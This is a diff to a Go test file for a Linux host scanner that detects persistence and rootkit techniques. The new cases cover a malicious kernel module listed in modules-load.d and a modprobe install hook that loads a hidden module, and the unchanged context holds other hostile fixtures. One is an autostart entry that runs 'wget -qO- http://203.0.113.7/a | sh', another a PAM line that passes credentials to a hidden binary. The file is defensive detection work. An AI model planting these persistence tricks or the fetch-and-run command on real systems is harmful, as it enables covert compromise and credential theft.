@@ -81,6 +81,14 @@ func TestFindLocations(t *testing.T) {
 		{"ld.so.conf.d", al, entry(hosttest.Entry{Path: "/etc/ld.so.conf.d/x.conf", Data: "/usr/lib64/mysql\n/dev/shm/.lib\n"}), want{"/etc/ld.so.conf.d/x.conf", 2, KindLibraryPath, High, ActionRemoveLine}},
 		{"pam-exec", deb, entry(hosttest.Entry{Path: "/etc/pam.d/sshd", Data: "@include common-auth\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log\n"}), want{"/etc/pam.d/sshd", 2, KindPAM, High, ActionRemoveLine}},
 		{"xdg-autostart", deb, entry(hosttest.Entry{Path: "/home/admin/.config/autostart/upd.desktop", Data: "[Desktop Entry]\nType=Application\nExec=sh -c 'wget -qO- http://203.0.113.7/a | sh'\n"}), want{"/home/admin/.config/autostart/upd.desktop", 3, KindAutostart, Critical, ActionQuarantine}},
+		{"kernel-module-rootkit", deb, func(t hosttest.Tree) hosttest.Tree {
+			return t.With(
+				hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.dep", Data: "kernel/fs/ext4/ext4.ko: kernel/lib/crc16.ko kernel/fs/jbd2/jbd2.ko kernel/fs/mbcache.ko\nkernel/net/ipv4/tcp_bbr.ko:\n"},
+				hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.builtin", Data: "kernel/drivers/block/loop.ko\n"},
+				hosttest.Entry{Path: "/etc/modules-load.d/net.conf", Data: "# tuning\ntcp_bbr\nloop\ndiamorphine\n", Mtime: at},
+			)
+		}, want{"/etc/modules-load.d/net.conf", 4, KindKernelModule, High, ActionRemoveLine}},
+		{"modprobe-install-hook", al, entry(hosttest.Entry{Path: "/etc/modprobe.d/x.conf", Data: "install usb_storage /bin/true\ninstall ext4 /sbin/insmod /var/tmp/.m/r.ko; /sbin/modprobe --ignore-install ext4\n"}), want{"/etc/modprobe.d/x.conf", 2, KindKernelModule, High, ActionRemoveLine}},
 		{"preload-missing-lib", al, entry(hosttest.Entry{Path: "/etc/ld.so.preload", Data: "/lib64/.libc.so.6\n"}), want{"/etc/ld.so.preload", 1, KindPreload, Critical, ActionRemoveLine}},
 	}
 	for _, tt := range tests {
@@ -132,5 +140,25 @@ func TestDeletedExesLive(t *testing.T) {
 	}
 	if len(pids) != 1 || pids[0] != cmd.Process.Pid {
 		t.Errorf("deletedExes()[%s] = %v, want [%d]", exe, pids, cmd.Process.Pid)
+	}
+}
+
+func TestModulesShippedStayInfo(t *testing.T) {
+	dir := build(t, hosttest.Debian12().With(
+		hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.dep", Data: "kernel/net/ipv4/tcp_bbr.ko.xz:\nkernel/drivers/net/wireguard/wireguard.ko: kernel/lib/crypto/libchacha20poly1305.ko\n"},
+		hosttest.Entry{Path: "/etc/modules-load.d/modules.conf", Data: "# /etc/modules: kernel modules to load at boot time.\ntcp-bbr\nwireguard\n"},
+		hosttest.Entry{Path: "/etc/modprobe.d/blacklist.conf", Data: "blacklist floppy\ninstall cramfs /bin/true\n"},
+	))
+	n := 0
+	for _, f := range find(t, dir, time.Time{}) {
+		if f.Kind == KindKernelModule {
+			n++
+			if f.Severity > Info {
+				t.Errorf("shipped module flagged: %s", f)
+			}
+		}
+	}
+	if n != 2 {
+		t.Errorf("%d module findings, want 2 (inventory)", n)
 	}
 }
